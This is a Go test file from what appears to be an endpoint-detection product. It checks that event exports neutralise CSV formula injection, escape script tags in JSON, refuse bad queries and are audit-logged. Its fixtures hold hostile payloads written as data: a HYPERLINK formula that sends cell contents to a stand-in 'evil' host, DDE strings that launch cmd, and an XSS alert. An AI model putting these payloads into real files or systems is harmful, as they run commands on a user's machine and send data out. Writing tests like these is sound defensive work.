package web

import (
	"encoding/csv"
	"encoding/json"
	"flag"
	"fmt"
	"github.com/vigil-edr/vigil/internal/audit"
	"net/http"
	"os"
	"path/filepath"
	"strings"
	"testing"
	"time"

	"github.com/vigil-edr/vigil/internal/event"
	"github.com/vigil-edr/vigil/internal/eventstore"
)

var update = flag.Bool("update", false, "rewrite testdata/*.golden.* from the code's output")

func TestCSVCell(t *testing.T) {
	for _, tc := range []struct{ in, want string }{
		{"", ""},
		{"plain", "plain"},
		{"=1+2", "'=1+2"},
		{"+SUM(A1)", "'+SUM(A1)"},
		{"-2+3", "'-2+3"},
		{"@SUM(A1)", "'@SUM(A1)"},
		{"\t=cmd", "'\t=cmd"},
		{"\r=cmd", "'\r=cmd"},
		{" =not first", " =not first"},
		{"a=b", "a=b"},
		{"'quoted", "'quoted"},
		{"bad\xffutf8", "bad\uFFFDutf8"},
		{"\xff=", "\uFFFD="},
	} {
		if got := CSVCell(tc.in); got != tc.want {
			t.Errorf("CSVCell(%q) = %q, want %q", tc.in, got, tc.want)
		}
	}
}

// hostileEvents are events whose values try formula injection, CSV
// breaking and invalid UTF-8.
func hostileEvents(agent string, base time.Time) []eventstore.Stored {
	values := []string{`=HYPERLINK("http://evil/?"&A1,"click")`, "+cmd|' /C calc'!A0", "-1+1", "@SUM(1+1)*cmd|' /C calc'!A0",
		"\t=1", "\r=1", "a,b\"c\nd", "bad \xff utf8", "<script>alert(1)</script>"}
	var out []eventstore.Stored
	for i, v := range values {
		e := &event.Event{Time: base.Add(time.Duration(i) * time.Second), Product: "linux", Categories: []string{"process_creation"}}
		e.Add("CommandLine", v)
		e.Add("Image", "/bin/sh")
		e.Add("Image", "=second")
		out = append(out, eventstore.Stored{AgentID: agent, BootEpoch: 9, Seq: uint64(i + 1), Host: v, Event: e})
	}
	return out
}

func TestEventExport(t *testing.T) {
	forEachBackend(t, func(t *testing.T, nb func(*testing.T) backend) {
		h := newHarness(t, nb(t))
		base := time.Date(2026, 12, 1, 10, 0, 0, 0, time.UTC)
		_, err := h.be.Insert(t.Context(), hostileEvents("agent-x", base))
		must(t, err)

		// Golden CSV of the hostile events (the newest first), with a
		// field column.
		st, b, hd := h.do("GET", "/api/v1/events/export?agent_id=agent-x&column=image&column=CommandLine", "viewer", nil)
		if st != 200 || hd.Get("Content-Type") != "text/csv; charset=utf-8" ||
			!strings.HasPrefix(hd.Get("Content-Disposition"), `attachment; filename="vigil-events-`) {
			t.Fatalf("csv export: %d %v %s", st, hd, b)
		}
		// Ids and the time column vary by backend; the golden file has them
		// blanked.
		rows, err := csv.NewReader(strings.NewReader(string(b))).ReadAll()
		must(t, err)
		if len(rows) != 10 {
			t.Fatalf("%d rows", len(rows))
		}
		for _, row := range rows[1:] {
			row[0] = "ID"
			for _, cell := range row {
				if cell != "" && strings.ContainsRune("=+-@\t\r", rune(cell[0])) {
					t.Errorf("cell %q starts a formula", cell)
				}
			}
		}
		var sb strings.Builder
		cw := csv.NewWriter(&sb)
		must(t, cw.WriteAll(rows))
		golden(t, "export.golden.csv", sb.String())

		st, b, hd = h.do("GET", "/api/v1/events/export?format=json&agent_id=agent-x&limit=3", "viewer", nil)
		var evs []eventJSON
		if st != 200 || hd.Get("Content-Type") != "application/json" || json.Unmarshal(b, &evs) != nil || len(evs) != 3 {
			t.Fatalf("json export: %d %s", st, b)
		}
		if evs[0].Fields[0].Value != "<script>alert(1)</script>" || !strings.Contains(string(b), `\u003cscript\u003e`) {
			t.Errorf("json export: %s", b)
		}
		st, b, _ = h.do("GET", "/api/v1/events/export?format=json&agent_id=nobody", "viewer", nil)
		if st != 200 || strings.TrimSpace(string(b)) != "[]" {
			t.Errorf("empty json export: %d %q", st, b)
		}

		for _, q := range []string{"?format=xml", "?limit=0", "?limit=100001", "?format=json&column=Image",
			"?column=", "?" + strings.Repeat("column=a&", 33), "?field=nameonly", "?before=3"} {
			if st, b, _ := h.do("GET", "/api/v1/events/export"+q, "viewer", nil); st != 400 {
				t.Errorf("export%s: %d %s", q, st, b)
			}
		}
		if st, _, _ := h.do("GET", "/api/v1/events/export", "", nil); st != 401 {
			t.Errorf("export without a token: %d", st)
		}
	})
}

// TestEventExportPages exports more events than one store search returns,
// with a limit that ends inside a page.
func TestEventExportPages(t *testing.T) {
	h := newHarness(t, openSQLite(t))
	base := time.Date(2026, 12, 1, 10, 0, 0, 0, time.UTC)
	var evs []eventstore.Stored
	for i := range 2500 {
		e := &event.Event{Time: base.Add(time.Duration(i/3) * time.Second), Product: "linux", Categories: []string{"process_creation"}}
		e.Add("CommandLine", fmt.Sprintf("job %d", i))
		evs = append(evs, eventstore.Stored{AgentID: "bulk", BootEpoch: 1, Seq: uint64(i + 1), Host: "b", Event: e})
	}
	_, err := h.be.Insert(t.Context(), evs)
	must(t, err)
	for _, tc := range []struct {
		q    string
		want int
	}{{"", 2500}, {"&limit=2100", 2100}, {"&limit=1000", 1000}, {"&limit=7", 7}, {"&q=job", 2500}} {
		st, b, _ := h.do("GET", "/api/v1/events/export?agent_id=bulk"+tc.q, "viewer", nil)
		rows, err := csv.NewReader(strings.NewReader(string(b))).ReadAll()
		if st != http.StatusOK || err != nil || len(rows) != tc.want+1 {
			t.Fatalf("export%s: %d, %d rows, %v", tc.q, st, len(rows), err)
		}
		seen := map[string]bool{}
		prev := ""
		for _, row := range rows[1:] {
			if seen[row[0]] {
				t.Fatalf("export%s: event %s twice", tc.q, row[0])
			}
			seen[row[0]] = true
			if prev != "" && row[1] > prev {
				t.Fatalf("export%s: %s after %s (want newest first)", tc.q, row[1], prev)
			}
			prev = row[1]
		}
	}
}

// golden compares got with testdata/name (go test -update rewrites it).
func golden(t *testing.T, name, got string) {
	t.Helper()
	p := filepath.Join("testdata", name)
	if *update {
		must(t, os.WriteFile(p, []byte(got), 0o644))
	}
	want, err := os.ReadFile(p)
	must(t, err)
	if string(want) != got {
		t.Errorf("output differs from %s (go test -update rewrites it; review the diff):\n%s", p, got)
	}
}

// TestDownloadsAudited: bulk and sensitive downloads are GETs but are
// written to the audit log with actor, address, query, format, the number
// of events and the status, refused ones too, and the chain still verifies.
func TestDownloadsAudited(t *testing.T) {
	h := newHarness(t, openSQLite(t))
	base := time.Date(2026, 12, 1, 10, 0, 0, 0, time.UTC)
	_, err := h.be.Insert(t.Context(), hostileEvents("agent-x", base))
	must(t, err)
	reqs := []struct {
		path, who string
		want      int
	}{
		{"/api/v1/events/export?agent_id=agent-x&limit=4&column=a%22b", "analyst", 200},
		{"/api/v1/events/export?format=json&agent_id=agent-x", "analyst", 200},
		{"/api/v1/events/export?limit=0", "viewer", 400},
		{fmt.Sprintf("/api/v1/cases/%d/report", h.caseID), "viewer", 200},
		{"/api/v1/hygiene/report?host=agent-x", "viewer", 404},
		{"/api/v1/hygiene/report", "viewer", 200},
		{"/api/v1/events?agent_id=agent-x", "analyst", 200}, // a search, not a download: not audited
	}
	for _, rq := range reqs {
		if st, b, _ := h.do("GET", rq.path, rq.who, nil); st != rq.want {
			t.Fatalf("GET %s as %s: %d %.200s, want %d", rq.path, rq.who, st, b, rq.want)
		}
	}
	var page auditPage
	h.get("/api/v1/audit?limit=1000", "admin", &page)
	var got []string
	for _, e := range page.Items {
		if !strings.HasSuffix(e.Action, ".get") || e.Action == "api.audit.get" {
			continue
		}
		if e.Source == "" || e.Hash == "" {
			t.Errorf("entry without source or hash: %+v", e)
		}
		got = append(got, fmt.Sprintf("%s %s %s %s", e.Actor, e.Action, e.Target, e.Detail))
	}
	want := []string{
		`token:analyst api.events.export.get /api/v1/events/export status=200 format=csv events=4 query="agent_id=agent-x&limit=4&column=a%22b"`,
		`token:analyst api.events.export.get /api/v1/events/export status=200 format=json events=9 query="format=json&agent_id=agent-x"`,
		`token:viewer api.events.export.get /api/v1/events/export status=400 events=0 query="limit=0" limit must be an integer from 1 to 100000`,
		fmt.Sprintf("token:viewer api.cases.report.get case:%d status=200", h.caseID),
		"token:viewer api.hygiene.report.get agent:agent-x status=404 not found",
		"token:viewer api.hygiene.report.get fleet status=200",
	}
	if strings.Join(got, "\n") != strings.Join(want, "\n") {
		t.Errorf("audit:\n%s\nwant:\n%s", strings.Join(got, "\n"), strings.Join(want, "\n"))
	}
	if _, err := audit.Verify(t.Context(), h.casesDB, nil); err != nil {
		t.Errorf("audit chain: %v", err)
	}
}
